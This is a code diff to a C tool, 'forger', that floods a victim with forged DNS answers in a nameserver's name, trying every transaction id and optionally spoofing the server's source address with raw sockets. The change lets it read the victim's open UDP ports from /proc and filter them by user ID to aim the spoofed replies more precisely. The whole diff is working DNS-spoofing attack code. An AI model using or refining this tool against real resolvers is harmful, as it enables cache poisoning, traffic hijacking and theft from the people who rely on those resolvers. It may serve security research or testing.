@@ -2,12 +2,12 @@
 /*
  * Forges answers in a nameserver's name, with every id in turn, for some seconds.
  *
- *   forger SERVER4 VICTIM4 SECONDS raw|plain [SOCKETS] <message
+ *   forger SERVER4 VICTIM4 SECONDS raw|plain [SOCKETS [UID]] <message
  *
  * raw    with the server's address as the source (CAP_NET_RAW)
  * plain  from a socket of its own, as anybody can
- * SOCKETS is the victim's /proc/PID/net/udp: the ports of its sockets that are connected to the server. Without it
- * ports are guessed. Prints how many were sent, and to how many ports.
+ * SOCKETS is the victim's /proc/PID/net/udp: the ports of its sockets (those of the user UID alone, if one is given) that are
+ * connected to the server. Without it ports are guessed. Prints how many were sent, and to how many ports.
  */
 #include <arpa/inet.h>
 #include <netinet/ip.h>
@@ -57,17 +57,19 @@ static void send_burst(uint16_t port)
 	}
 }
 
-static unsigned int look_up(const char *path, uint16_t ports[PORTS_MAX])
+static unsigned int look_up(const char *path, const char *user, uint16_t ports[PORTS_MAX])
 {
 	FILE *file = fopen(path, "r");
-	unsigned int n = 0, local_port, remote, remote_port;
+	unsigned int n = 0, local_port, remote, remote_port, uid;
 	char line[512];
 
 	if (!file)
 		return 0;
 	while (n < PORTS_MAX && fgets(line, sizeof(line), file))
-		if (sscanf(line, "%*u: %*x:%x %x:%x", &local_port, &remote, &remote_port) == 3 &&
-		    remote == packet.ip.saddr && remote_port == PORT_DNS)
+		if (sscanf(line, "%*u: %*x:%x %x:%x %*x %*x:%*x %*x:%*x %*x %u", &local_port,
+			   &remote, &remote_port, &uid) == 4 &&
+		    remote == packet.ip.saddr && remote_port == PORT_DNS &&
+		    (!user || uid == (unsigned int)atoi(user)))
 			ports[n++] = (uint16_t)local_port;
 	fclose(file);
 	return n;
@@ -102,7 +104,7 @@ int main(int argc, char **argv)
 	puts("forging");
 	fflush(stdout);
 	for (end = time(NULL) + atoi(argv[3]); time(NULL) < end;) {
-		unsigned int n = argc > 5 ? look_up(argv[5], ports) : 1;
+		unsigned int n = argc > 5 ? look_up(argv[5], argc > 6 ? argv[6] : NULL, ports) : 1;
 
 		for (unsigned int i = 0; i < n; i++)
 			send_burst(argc > 5 ? ports[i] : (uint16_t)(10240 + rand() % 22528));
